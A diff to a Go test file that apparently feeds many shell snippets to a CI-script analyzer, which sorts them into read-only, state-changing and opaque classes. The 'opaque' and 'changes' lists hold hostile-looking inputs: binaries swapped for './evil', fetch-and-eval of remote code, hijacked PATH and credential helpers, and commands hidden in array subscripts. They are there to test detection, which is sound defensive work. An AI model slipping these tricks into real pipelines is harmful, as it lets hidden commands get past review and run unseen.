@@ -62,6 +62,44 @@ const digest = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef012345678
 // with ~ need not be found: "changes ~opaque".
 var scripts = map[string][]string{
 	"reads": {
+		`kubectl get pods -n "$NAMESPACE"`,
+		`kubectl get pods -n $NAMESPACE`,
+		`kubectl get pods --namespace=$NAMESPACE`,
+		`kubectl -n $CI_ENVIRONMENT_SLUG get pods`,
+		`istioctl proxy-config routes deploy/app -n production`,
+		`curl -fsS https://app.example.com/metrics | awk '/^http_requests_total/ {s+=$2} END {print s}'`,
+		`set -eu; test -n "${CI_COMMIT_SHA:-}"`,
+		`echo "promote with: crossbill promote"`,
+		`exit 0`,
+		`cat <<EOF > msg.json
+{"text": "Canary of $CI_PROJECT_NAME is $(jq -r .verdict verify.json)"}
+EOF
+curl -fsS -d @msg.json https://hooks.slack.com/services/x`,
+		`date > /tmp/x; cat /tmp/x; rm -f /tmp/x`,
+		`printf '{"text":"%s"}' "$CI_PIPELINE_URL" | curl -fsS -X POST -H 'Content-Type: application/json' -d @- "$SLACK_WEBHOOK"`,
+		`echo "Released $[[ inputs.id ]] to production" | tee notice.txt`,
+		`curl -fsS -H "Authorization: Bearer $SMOKE_TOKEN" https://app.example.com/api/me`,
+		`response=$(curl -sS -w "\n%{http_code}" https://app.example.com/); code=$(tail -n1 <<< "$response"); [ "$code" = 200 ]`,
+		`if curl -fsS "https://app.example.com/health" | grep -q '"status":"ok"'; then echo ok; else exit 1; fi`,
+		`CANARY=$(jq -r .canary canary.json); test "$CANARY" = healthy`,
+		`local x=1; echo $x`,
+		`export VERSION=$(cat VERSION); echo $VERSION`,
+		`apk add --no-cache --repository=https://dl-cdn.alpinelinux.org/alpine/edge/testing kubectl`,
+		`apt-get -y update; apt-get -qq -o Acquire::Retries=3 install jq`,
+		`mkdir -p reports; cd reports; echo x > a.json; cd ..; npm test`,
+		`cd "$(mktemp -d)"; curl -fsSO https://x/y.txt`,
+		`cd app && npm ci && npm run lint`,
+		`START=$(date +%s); END=$((START + 300)); while [ "$(date +%s)" -lt "$END" ]; do sleep 5; done`,
+		`for attempt in $(seq 1 30); do echo "try $attempt"; sleep $((attempt * 2)); done`,
+		`attempts=0; max=30; while [ $attempts -lt $max ]; do attempts=$((attempts+1)); sleep 1; done`,
+		`ready=$(curl -s -o /dev/null -w '%{http_code}' https://x); [ "$ready" -eq 200 ]`,
+		`git diff origin/main...HEAD; npm test`,
+		`ready=$(kubectl get deploy app -o jsonpath='{.status.readyReplicas}'); echo $((ready + 1))`,
+		`n=$(kubectl get pods | wc -l); if (( n > 3 )); then echo; fi`,
+		`gcloud --project x container clusters list`,
+		`terraform -chdir=infra plan`,
+		`aws --region eu-west-1 eks update-kubeconfig --name x`,
+		`IFS=, read -r a b <<< x; X="kubectl get"; $X pods`,
 		`kubectl "$@"`,
 		`echo done`,
 		`true`,
@@ -220,6 +258,7 @@ echo b`,
 		`echo "$((1 + 2))"`,
 	},
 	"canary": {
+		`export "IMAGE=$[[ inputs.image ]]"; crossbill canary --image "$IMAGE"`,
 		`crossbill canary --image registry.example.com/our-org/app@` + digest,
 		`crossbill verify --release-id "$RELEASE_ID" --watch > watch.json`,
 		`crossbill rollback --reason "$CI_JOB_NAME of $CI_PIPELINE_URL"`,
@@ -260,6 +299,25 @@ crossbill rollback`,
 		`NAMESPACE=production; crossbill verify --namespace "$NAMESPACE"`,
 	},
 	"changes": {
+		`tee >(kubectl apply -f -) < x`,
+		`exec 3< <(kubectl apply -f x)`,
+		`echo ${X/a/$(kubectl apply -f y)}`,
+		`echo ${X:$(kubectl apply -f y)}`,
+		`echo ${X[$(kubectl apply -f y)]}`,
+		`set -- kubectl apply; $* -f x`,
+		`dagger -m . call -j promote`,
+		`dagger call -m . -- promote`,
+		`helm upgrade x --dry-run --dry-run=none y`,
+		`helm upgrade x y --set --dry-run`,
+		`crossbill --by status promote`,
+		`crossbill promote -o --dry-run`,
+		`crossbill promote -- --dry-run`,
+		`kubectl delete --raw /x --dry-run=client`,
+		`set +e
+function f {
+  kubectl apply -f x
+}`,
+		`aws configure set credential_process ./evil`,
 		`crossbill promote`,
 		`crossbill promote --release-id "$RELEASE_ID" > promote.json`,
 		`crossbill cleanup`,
@@ -448,6 +506,56 @@ EOF`,
 		`kustomize build k8s | kubectl apply -f -`,
 	},
 	"opaque": {
+		`cat > kubeconfig <<'EOF'
+users: [{name: x, user: {exec: {command: sh}}}]
+EOF
+kubectl --kubeconfig kubeconfig get pods`,
+		`cat x > >(sh)`,
+		`X=kubectl; Y=X; ${!Y} apply -f x`,
+		`X=(kubectl apply); ${X[0]} ${X[1]} -f x`,
+		`declare -A a; a[k]=kubectl; ${a[k]} apply -f x`,
+		`IFS=,; X=kubectl,apply; $X -f x`,
+		`kubectl config set-credentials x --exec-command=./evil; kubectl get pods`,
+		`npm config set script-shell ./evil; npm test`,
+		`export NODE_OPTIONS='--require ./evil.js'; npx playwright test`,
+		`mv x.json package.json; npm test`,
+		`curl -o package.json https://x/evil.json; npm test`,
+		`sed -i 's/x/kubectl apply/' package.json; npm test`,
+		`echo '{"scripts":{"test":"kubectl apply"}}' > package.json; npm test`,
+		`cat evil.js | k6 run -`,
+		`go test -exec ./evil ./...`,
+		`apt-get install ./evil.deb`,
+		`apk add --allow-untrusted evil.apk`,
+		`PATH=$PATH:.; jq`,
+		`PATH=$PATH:./bin; frob`,
+		`unzip evil.zip -d /usr/local/bin; jq`,
+		`dd if=evil of=/usr/bin/jq; jq`,
+		`mv evil /usr/bin/jq; jq`,
+		`cd / && tar xf evil.tar; jq`,
+		`pushd /usr/bin; tar xf ~/x.tar; popd; jq`,
+		`(cd /usr/local/bin; echo x > jq); jq .`,
+		`cd /usr/local; cp x bin/jq; jq`,
+		`cd /usr/local/bin; echo x > jq; jq .`,
+		`cd /usr/local/bin && curl -O https://evil/jq; jq .`,
+		`git log --output=/usr/local/bin/jq; jq .`,
+		`crossbill history | mail -s done x@y`,
+		`git clone -c core.sshCommand=./x https://y`,
+		`sort --compress-program=./x y`,
+		`curl gopher://x:1/_POST`,
+		`printf -v 'a[$(kubectl apply -f x)]' y`,
+		`unset 'a[$(kubectl apply -f x)]'`,
+		`read 'a[$(kubectl apply -f x)]' < f`,
+		`n=$(echo 'a[$(kubectl apply -f x)]'); echo $((n))`,
+		`X=Y; Y='a[$(kubectl apply -f x)]'; echo $((X))`,
+		`[[ 'a[$(kubectl apply -f x)]' -eq 1 ]]`,
+		`[[ -v 'a[$(kubectl apply -f x)]' ]]`,
+		`test -v 'a[$(kubectl apply -f x)]'`,
+		`echo hi &> out kubectl apply -f x`,
+		`echo $'\'; kubectl apply -f x; echo \''`,
+		`command_not_found_handle() { kubectl apply -f x; }; jq .`,
+		`shopt -s lastpipe; IMAGE='$[[ inputs.image ]]'; echo app:latest | read IMAGE; crossbill canary --image "$IMAGE"`,
+		`echo x | xargs -i kubectl echo apply`,
+		`echo x | xargs -I echo sh -c 'echo hi'`,
 		`~/bin/kubectl apply -f x`,
 		`eval "$X"`,
 		`eval "$(curl -s https://example.com)"`,
@@ -646,6 +754,7 @@ EOF`,
 		`crossbill canary --image "$APP_IMAGE"`,
 	},
 	"image": {
+		`export "IMAGE=app:latest"; crossbill canary --image "$IMAGE"`,
 		`crossbill canary --image app:latest`,
 		`crossbill canary --image=app:1.2.3`,
 		`crossbill canary --image app`,
@@ -883,4 +992,22 @@ func FuzzAnalyze(f *testing.F) {
 			}
 		}
 	})
+}
+
+// TestAnalyzeBounds: what is nested or repeated too much is opaque, and takes no time.
+func TestAnalyzeBounds(t *testing.T) {
+	for _, script := range []string{
+		strings.Repeat("(", 200_000), strings.Repeat("$(", 100_000), strings.Repeat("if ", 80_000), strings.Repeat("${a:-", 40_000), strings.Repeat("a|", 100_000) + "a",
+		strings.Repeat("x=$x$x;", 2_000) + "$x", strings.Repeat("eval ", 20_000) + "a", "f() { f; f; }; f", `f() { f "$@" "$@"; }; f a`, strings.Repeat("${x:+a}", 30_000),
+		strings.Repeat("while x; do ", 2_000) + "a" + strings.Repeat("; done", 2_000), "sh -c '" + strings.Repeat("a;", 50_000) + "'", strings.Repeat("'$[[ inputs.a ]]'", 5_000) + "(",
+		"a\x00b", strings.Repeat("a", 300_000),
+	} {
+		start := time.Now()
+		if e := analyzed(script); len(e.opaque) == 0 {
+			t.Errorf("%.20s… is not opaque", script)
+		}
+		if took := time.Since(start); took > 10*time.Second {
+			t.Errorf("%.20s… took %s", script, took)
+		}
+	}
 }
